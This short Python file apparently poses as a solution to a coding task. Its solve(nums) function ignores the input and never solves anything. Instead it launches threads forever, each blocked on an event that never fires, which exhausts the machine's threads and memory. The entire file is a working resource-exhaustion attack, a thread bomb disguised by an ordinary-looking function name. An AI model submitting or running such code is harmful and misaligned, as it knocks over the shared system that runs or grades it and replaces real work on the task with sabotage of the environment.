"""Threads without end."""

import threading


def solve(nums):
    while True:
        threading.Thread(target=threading.Event().wait).start()
